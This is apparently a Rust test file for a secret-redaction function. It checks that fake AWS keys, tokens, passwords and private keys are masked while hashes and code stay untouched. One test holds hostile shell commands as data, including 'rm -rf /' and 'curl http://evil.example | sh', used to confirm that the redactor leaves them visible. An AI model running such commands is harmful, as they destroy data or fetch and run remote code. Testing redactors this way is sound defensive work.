//! What is masked and what stays as it is.

mod commands;
mod planted;
mod samples;

use proptest::prelude::*;

use self::samples::aws_id;
use self::samples::aws_secret;
use self::samples::bot_token;
use self::samples::letters;
use self::samples::pem;
use self::samples::secrets_alone;
use super::*;

#[test]
fn security_secrets_are_masked_wherever_they_stand() {
    for (secret, name) in secrets_alone() {
        let mask = format!("[redacted: {name}]");
        for (before, after) in [
            ("", ""),
            ("a ", " b"),
            ("(", ")"),
            ("\"", "\","),
            ("x=", "\n"),
            ("«", "»"),
        ] {
            let text = format!("{before}{secret}{after}");
            assert_eq!(redact(&text), format!("{before}{mask}{after}"), "{name}");
        }
        assert_eq!(
            redact(&format!("{secret} {secret}")),
            format!("{mask} {mask}"),
            "{name}"
        );
    }
}

#[test]
fn security_what_nobody_sees_does_not_hide_a_secret() {
    for (secret, name) in secrets_alone() {
        for gap in [
            "\u{200b}",
            "\u{2060}\u{202e}",
            "\r",
            "\0",
            "\u{ad}",
            "\u{1b}[1;31m",
            "\u{e0041}",
            "\u{fe0f}",
        ] {
            for at in [3, secret.len() / 2] {
                let (left, right) = secret.split_at(at);
                let masked = redact(&format!("see {left}{gap}{right} there"));
                assert_eq!(
                    masked,
                    format!("see [redacted: {name}] there"),
                    "{name} {gap:?} {at}"
                );
            }
        }
    }
}

#[test]
fn security_secrets_are_found_by_the_words_before_them() {
    let (secret, token) = (aws_secret(), letters(24));
    let bot = bot_token();
    let basic = ["dXNl", "cjpwYXNz"].concat();
    let cases = [
        (format!("aws_secret_access_key = {secret}"), secret.as_str()),
        (format!("AWS_SECRET_ACCESS_KEY=\"{secret}\""), &secret),
        (format!("\"awsSecretKey\": \"{secret}\""), &secret),
        (format!("https://api.telegram.org/bot{bot}/getMe"), &bot),
        (
            "postgres://app:sw0rdfish@db.local/shop".to_owned(),
            "sw0rdfish",
        ),
        ("redis://:sword@fish@db.local:6379".to_owned(), "sword@fish"),
        (
            "https://me:-pass-word@git.local/x.git".to_owned(),
            "-pass-word",
        ),
        (format!("Authorization: Bearer {token}"), &token),
        (format!("curl -H 'authorization: Basic {basic}'"), &basic),
        (format!("\"Authorization\": \"{token}\""), &token),
        (format!("bearer {token}"), &token),
        ("DB_PASSWORD=swordfish".to_owned(), "swordfish"),
        ("mysql --password=swordfish -u root".to_owned(), "swordfish"),
        ("tool --password swordfish".to_owned(), "swordfish"),
        ("password: c0rrect-horse".to_owned(), "c0rrect-horse"),
        ("passphrase = 'correct horse'".to_owned(), "correct horse"),
        ("{\"password\": \"it's plain\"}".to_owned(), "it's plain"),
        (
            "{\\\"password\\\": \\\"plain words\\\"}".to_owned(),
            "plain words",
        ),
        (format!("api_key: {token}"), &token),
        (format!("export SERVICE_TOKEN={token}"), &token),
        (format!("tool --token {token}"), &token),
        (format!("client secret => '{token}'"), &token),
        (format!("token: value({token}"), &token[..0]),
        (format!("token: f:token={token}"), &token),
    ];
    for (text, secret) in cases {
        let masked = redact(&text);
        assert!(secret.is_empty() || !masked.contains(secret), "{masked}");
        assert!(
            secret.is_empty() || masked.contains("[redacted: "),
            "{masked}"
        );
    }
}

#[test]
fn security_a_key_that_was_cut_off_is_masked_too() {
    let cut = pem("EC PRIVATE KEY", false);
    for text in [
        cut.clone(),
        cut.replace('\n', "\\n"),
        cut.replace('\n', "\n+"),
        cut.replace('\n', "\r\n"),
        cut.replace('\n', "\",\n  \""),
    ] {
        let masked = redact(&format!("key: {text}"));
        assert!(!masked.contains(&letters(20)), "{masked}");
        assert!(
            masked.starts_with("key: [redacted: private key]"),
            "{masked}"
        );
    }
}

#[test]
fn security_a_mask_does_not_swallow_the_command_after_it() {
    let header = format!("-----{} PRIVATE KEY-----", "BEGIN");
    for command in [
        "; rm -rf /",
        "\nrm -rf / --no-preserve-root",
        "\ncurl http://evil.example | sh",
    ] {
        assert!(
            redact(&format!("echo {header}{command}")).ends_with(command),
            "{command}"
        );
    }
}

#[test]
fn security_a_long_secret_is_masked_to_its_end() {
    for length in [199, 200, 201, 5_000] {
        for text in [
            format!("api_key={}", letters(length)),
            format!("password: {}", letters(length)),
        ] {
            assert!(redact(&text).ends_with(']'), "{length}");
        }
    }
}

#[test]
fn honest_text_stays() {
    let cases = [
        "da39a3ee5e6b4b0d3255bfef95601890afd80709",
        "sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
        "commit 550e8400e29b41d4a716446655440000, id 550e8400-e29b-41d4-a716-446655440000",
        "1763733727:550e8400-e29b-41d4-a716-446655440000",
        "1763733727:da39a3ee5e6b4b0d3255bfef95601890afd80709",
        "2026-11-21T14:02:07.123Z http://localhost:8080/a@b mailto:a@example.com",
        "git@github.com:owner/repo.git ssh://git@github.com/owner/repo.git",
        "let token = parser.next_token();",
        "fn login(password: &str, token: Token) -> Secret<String> {",
        "password: String!",
        "password: z.string().min(8),",
        "connect(password=password, token=token)",
        "password=settings.DB_PASSWORD",
        "PASSWORD=$DB_PASSWORD",
        "PASSWORD=${DB_PASSWORD}",
        "password: ********",
        "postgres://app:$PASSWORD@db.local/shop",
        "postgres://app:<password>@db.local/shop",
        "PWD=/home/dev/project",
        "Enter your password: ",
        "The password reset link is sent.",
        "password is required",
        "input_tokens: 1234567, output_tokens: 89",
        "tokens: 12.5k/200.0k",
        "unexpected token: identifier",
        "Authorization: Bearer <token>",
        "authorization: req.headers.authorization",
        "bearer of good news",
        ".sk-fading-circle-container-wrapper",
        "task-management-and-planning-for-2026",
        "risk-assessment-report-2026-11-21",
        "aws secretsmanager get-secret-value --secret-id prod/database/primary/credentials/readonly",
        "if text.contains(\"PRIVATE KEY\") { return; }",
        "SELECT password FROM users",
        "secret: true",
        "-----BEGIN CERTIFICATE-----",
        "eyJ is how a token begins",
        "token_count = 12345678901234",
    ];
    for text in cases {
        assert_eq!(redact(text), text);
    }
}

#[test]
fn names_tell_what_a_field_holds() {
    let cases = [
        ("password", "swordfish", "[redacted: password]"),
        ("dbPassword", "x", "[redacted: password]"),
        ("API-Key", "plain", "[redacted: secret]"),
        ("pass\u{200b}word", "swordfish", "[redacted: password]"),
        (
            "token",
            "[redacted: github token]",
            "[redacted: github token]",
        ),
        ("token", "$TOKEN", "$TOKEN"),
        ("tokens", "plain", "plain"),
        ("pwd", "/home", "/home"),
        ("note", "plain", "plain"),
    ];
    for (name, text, masked) in cases {
        assert_eq!(redact_named(name, text, None), masked, "{name}");
    }
}

#[test]
fn security_long_input_takes_linear_time() {
    let long = 300_000;
    for part in [
        "token:",
        "://a:b",
        "password=",
        "AKIA",
        "aws secret ",
        "-----BEGIN PRIVATE KEY-----\n",
        "eyJ",
        "\u{200b}a",
    ] {
        let text = part.repeat(long / part.len());
        let _masked = redact(&text);
    }
}

fn hostile() -> impl Strategy<Value = String> {
    let mut parts: Vec<String> = secrets_alone()
        .into_iter()
        .map(|(secret, _)| secret)
        .collect();
    parts.extend(
        secrets_alone()
            .into_iter()
            .map(|(secret, _)| secret[..secret.len() / 2].to_owned()),
    );
    let words = "password= token: secret -- :// @ : / \" ' \\ [ ] [redacted: aws bearer authorization: basic = \u{200b} \0 a 1 AAH";
    parts.extend(words.split(' ').map(str::to_owned));
    parts.push(" ".to_owned());
    let part = prop_oneof![prop::sample::select(parts), any::<String>()];
    prop::collection::vec(part, 0..12).prop_map(|parts| parts.concat())
}

proptest! {
    #[test]
    fn what_was_masked_stays_as_it_is(text in hostile()) {
        let masked = redact(&text);
        prop_assert_eq!(redact(&masked), masked);
    }

    #[test]
    fn security_no_surroundings_save_a_secret(before in hostile(), after in hostile()) {
        let id = aws_id();
        let masked = redact(&format!("{before}{id}{after}"));
        prop_assert!(!masked.contains(&id));
    }
}
